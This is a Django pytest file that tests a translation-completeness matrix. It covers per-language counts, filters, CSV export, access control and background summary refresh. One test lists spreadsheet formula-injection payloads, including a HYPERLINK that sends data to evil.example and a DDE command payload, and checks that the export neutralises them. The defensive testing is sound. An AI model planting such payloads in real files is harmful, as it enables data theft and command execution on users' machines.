"""The completeness matrix: every translated record × language, counts that match."""

import csv
import io
from unittest.mock import patch

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from pytest_django.asserts import assertContains, assertNotContains

from cities.models import City, Exchange
from news.models import Article
from portal.editorial.glossary import Glossary, Term
from portal.editorial.matrix_view import PAGE_SIZE
from portal.editorial.models import PendingChange
from portal.editorial.summaries import TranslationSummary, refresh_all
from portal.models import Office
from tests.factories import make_article, make_category, make_city, make_exchange, make_photo

pytestmark = pytest.mark.django_db

URL = "/admin/translations/matrix/"


@pytest.fixture
def known(db):
    """Records with known states into English (all written in Chinese but one)."""
    Term.objects.create(chinese="卡拉奇", english="Karachi", kind="place")
    Office.objects.create(name_zh_hans="外办", name_en="Foreign Affairs Office")
    make_category(name_zh_hans="友好城市", name_en="")  # factories' default original: Chinese
    city = make_city(slug="karachi", name_zh_hans="卡拉奇", name_en="Karachi")  # complete
    make_exchange(city, title_zh_hans="访问卡拉奇", title_en="A visit")  # complete, lacks Karachi
    make_photo(city, alt_zh_hans="港口", alt_en="")  # missing
    make_article(slug="complete", title_zh_hans="完整", title_en="Complete")
    stale = make_article(slug="stale", title_zh_hans="旧", title_en="Old")
    stale.title_zh_hans = "新"
    stale.save()
    make_article(slug="missing", title_zh_hans="缺", title_en="", status="draft")
    make_article(slug="english", title_en="Written in English", original_language="en",
                 title_zh_hans="", body_zh_hans="")  # fmt: skip


def csv_rows(client, query=""):
    response = client.get(f"{URL}?format=csv{query}")
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_counts_match_the_records(client, sign_in, known):
    sign_in("Translators")
    rows = {(row["type"], row["record"]): row for row in csv_rows(client)}
    assert rows[("news.article", "Complete")]["en state"] == "complete"
    assert rows[("news.article", "Old")]["en state"] == "stale"
    assert rows[("news.article", "Old")]["en stale"] == "1"
    assert rows[("news.article", "缺")]["en state"] == "missing"
    assert rows[("news.article", "缺")]["en missing"] == "1"
    assert rows[("news.article", "缺")]["published"] == "0"
    assert rows[("news.article", "Written in English")]["en state"] == "original"
    assert rows[("news.article", "Written in English")]["zh-hans state"] == "missing"
    assert rows[("news.category", "友好城市")]["en state"] == "missing"
    assert rows[("cities.city", "Karachi")]["en state"] == "complete"
    exchange = next(row for key, row in rows.items() if key[0] == "cities.exchange")
    assert (exchange["en state"], exchange["en flagged"]) == ("complete", "1")
    photo = next(row for key, row in rows.items() if key[0] == "cities.cityphoto")
    assert (photo["en state"], photo["en missing"]) == ("missing", "1")
    assert rows[("portal.office", "Foreign Affairs Office")]["en state"] == "complete"


def test_totals_per_language_count_published_records(client, sign_in, known):
    sign_in("Translators")
    response = client.get(URL)
    # Published: office, country, category, city, exchange, photo, 3 articles = 9;
    # complete in English: office, country, city, exchange, "complete", "english"
    # (its original) = 6; in Chinese all but the English original = 8.
    assertContains(response, "English: 6 of 9 published records complete")
    assertContains(response, "中文: 8 of 9 published records complete")
    client.cookies["django_language"] = "zh-hans"
    assertContains(client.get(URL), "English：9条已发布记录中6条完整")


def test_filters_by_type_and_state(client, sign_in, known):
    sign_in("Translators")
    articles = csv_rows(client, "&type=news.article&state=missing&language=en")
    assert [row["record"] for row in articles] == ["缺"]
    flagged = csv_rows(client, "&state=flagged")
    assert [row["type"] for row in flagged] == ["cities.exchange"]
    response = client.get(f"{URL}?type=news.article&state=stale")
    assertContains(response, "Old")
    assertNotContains(response, "Complete</th>")
    assert client.get(f"{URL}?type=nonsense&state=nonsense").status_code == 200


def test_cells_link_to_the_workbench(client, sign_in, known):
    sign_in("Translators")
    response = client.get(f"{URL}?type=cities.cityphoto")
    city_pk = csv_rows(client, "&type=cities.city")[0]["id"]
    assertContains(response, f'href="/admin/translate/cities.city/{city_pk}/en/"')


def test_only_those_who_translate_see_it(client, db):
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.create_user("nobody", password="pw", is_staff=True)
    client.force_login(user)
    assert client.get(URL).status_code == 403


def test_queries_stay_flat_from_1_to_50_records(client, sign_in):
    sign_in("Translators")

    def build(start, size):
        for n in range(start, start + size):
            city = make_city(slug=f"city-{n}", name_zh_hans=f"城市{n}", name_en="")
            make_exchange(city, title_en="")
            make_photo(city, alt_en="")
            make_article(slug=f"article-{n}", title_en="")

    def count():
        client.get(URL)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(URL).status_code == 200
        return len(queries)

    build(0, 1)
    small = count()
    build(1, 49)
    assert count() <= small


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+cmd|' /C calc'!A0",
              "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_the_csv_runs_no_formula(client, sign_in):
    """A record named like a formula is written as text (a leading ')."""
    sign_in("Translators")
    for n, name in enumerate(INJECTIONS):
        make_city(slug=f"evil-{n}", name_zh_hans=name, name_en=name)
    records = [row["record"] for row in csv_rows(client, "&type=cities.city")]
    assert sorted(records) == sorted(f"'{name}" for name in INJECTIONS)


def test_glossary_findings_are_stored_on_save_not_checked_per_request(client, sign_in, known):
    """The page and the CSV read what each save stored: the glossary is not consulted."""
    sign_in("Translators")
    exchange = Exchange.objects.get()
    with patch.object(Glossary, "check", side_effect=AssertionError("checked per request")):
        flagged = csv_rows(client, "&state=flagged")
        assert client.get(f"{URL}?state=flagged").status_code == 200
    assert [row["en flagged"] for row in flagged] == ["1"]
    exchange.title_en = "A visit to Karachi"
    exchange.save()
    assert csv_rows(client, "&state=flagged") == []
    summary = TranslationSummary.objects.get(object_id=exchange.pk, content_type__model="exchange")
    assert summary.cells["en"] == {"state": "complete", "missing": 0, "stale": 0, "flagged": 0}


def test_a_glossary_change_refreshes_the_stored_findings_in_the_background(
    client, sign_in, known, settings, django_capture_on_commit_callbacks
):
    sign_in("Translators")
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    with django_capture_on_commit_callbacks(execute=True):
        Term.objects.create(chinese="完整", english="Whole", kind="other")
    # Queued, not yet run: the page still shows what was stored.
    assert [row["type"] for row in csv_rows(client, "&state=flagged")] == ["cities.exchange"]
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    with django_capture_on_commit_callbacks(execute=True):
        Term.objects.filter(chinese="完整").first().save()
    flagged = {(row["type"], row["en flagged"]) for row in csv_rows(client, "&state=flagged")}
    assert flagged == {("cities.exchange", "1"), ("news.article", "1")}


def test_refreshing_every_summary_in_batches_changes_nothing_right(client, sign_in, known):
    sign_in("Translators")
    before = csv_rows(client)
    TranslationSummary.objects.all().delete()
    refresh_all(batch=2)  # as migrate fills them
    assert csv_rows(client) == before


def test_migrate_fills_the_summaries_of_a_database_without_them(client, sign_in, known):
    """A database that predates the summaries (or is restored without them) gets them
    after `migrate`, written with today's code once every migration has run."""
    sign_in("Translators")
    before = csv_rows(client)
    TranslationSummary.objects.all().delete()
    call_command("migrate", verbosity=0)
    assert TranslationSummary.objects.exists()
    assert csv_rows(client) == before


def test_a_deleted_record_leaves_the_matrix(client, sign_in, known):
    sign_in("Translators")
    city = City.objects.get(slug="karachi")
    city.delete()  # with its exchange and photo
    kinds = {row["type"] for row in csv_rows(client)}
    assert not kinds & {"cities.city", "cities.exchange", "cities.cityphoto"}


def test_the_matrix_is_paged_and_counted_by_the_database(client, sign_in, known):
    sign_in("Translators")
    for n in range(PAGE_SIZE + 5):
        make_article(slug=f"more-{n}", title_zh_hans=f"更多{n}", title_en="", status="draft")
    with CaptureQueriesContext(connection) as queries:
        first = client.get(f"{URL}?type=news.article")
    assert len(queries) < 20
    assertContains(first, f"{PAGE_SIZE + 9} records")
    assert first.content.decode().count('<th scope="row">') == PAGE_SIZE
    assertContains(first, 'href="?type=news.article&amp;page=2"')
    second = client.get(f"{URL}?type=news.article&page=2")
    assert second.content.decode().count('<th scope="row">') == 9
    # The totals are of every record of the type, not of the page.
    assertContains(second, "English: 2 of 3 published records complete")
    assertContains(client.get(f"{URL}?type=news.article&page=999"), "更多")  # the last page
    missing = client.get(f"{URL}?type=news.article&state=missing&language=en")
    assertContains(missing, f"{PAGE_SIZE + 6} records")


def test_awaiting_approval_is_shown_and_filtered(client, sign_in, known):
    article = Article.objects.get(slug="complete")
    PendingChange.objects.create(
        content_type=ContentType.objects.get_for_model(Article),
        object_id=article.pk,
        values={"title_en": "Completed"},
    )
    sign_in("Translators")
    rows = csv_rows(client, "&state=awaiting")
    assert [(row["record"], row["en state"]) for row in rows] == [("Complete", "awaiting")]
    assert csv_rows(client, "&state=awaiting&language=zh-hans") == []
